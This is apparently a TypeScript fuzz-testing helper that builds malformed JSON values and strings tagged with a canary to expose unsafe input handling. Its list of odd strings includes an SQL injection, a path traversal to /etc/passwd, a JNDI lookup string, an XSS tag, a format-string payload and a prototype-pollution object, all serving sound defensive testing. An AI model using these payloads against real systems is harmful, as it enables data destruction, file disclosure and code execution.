import type { Draw } from './draw.ts';

/** Is in every text that the fuzzer makes up, so that a log that repeats its input gives itself away. */
export const canary = 'canary7f3a';

const odd: readonly string[] = [
  '',
  ' ',
  '\u0000',
  '\u202e\u2066',
  '\ud800',
  '\ufeff',
  '💥'.repeat(20),
  'i-',
  'i-0123456789ABCDEF0',
  'i-0123456789abcdef0i-0123456789abcdef0',
  "'; DROP TABLE groups; --",
  '../../../../etc/passwd',
  '%{jndi:ldap://example.com/a}',
  '{% $states.input %}',
  '<script>alert(1)</script>',
  'arn:aws:ec2:us-east-2a:instance/i-0123456789abcdef0',
  'NaN',
  'null',
  '__proto__',
  '%s%s%n',
  '2026-13-45T99:99:99Z',
];

const longLengths = [65, 256, 257, 2_048, 20_000];

/** A text that fits no schema of ours. */
export const nastyText = (draw: Draw): string => {
  if (draw.chance(0.1)) return draw.pick(odd);
  if (draw.chance(0.15)) return canary.repeat(Math.ceil(draw.pick(longLengths) / canary.length));
  return `${draw.pick(odd)}${canary} ${draw.int(1_000_000)}`;
};

const numbers = [0, -0, -1, 1.5, 1e308, -1e308, 5e-324, 2 ** 53, 2 ** 31, Number.MAX_SAFE_INTEGER + 1];

/** Nested lists or maps, this deep. */
export const nested = (depth: number, draw: Draw): unknown => {
  let value: unknown = canary;
  for (let level = 0; level < depth; level += 1) value = draw.chance(0.5) ? [value] : { [canary]: value };
  return value;
};

/** JSON text keeps `__proto__` as a key of its own; a literal would not. */
const polluting = (): unknown => JSON.parse(`{"__proto__": {"polluted": "${canary}"}, "constructor": {"prototype": {"polluted": "${canary}"}}}`);

/** Anything that JSON can hold and that nobody wants. */
export const nasty = (draw: Draw): unknown =>
  draw.pick<() => unknown>([
    () => null,
    () => true,
    () => draw.pick(numbers),
    () => nastyText(draw),
    () => nastyText(draw),
    () => [],
    () => ({}),
    () => [nastyText(draw), draw.pick(numbers), null],
    () => nested(1 + draw.int(60), draw),
    polluting,
  ])();
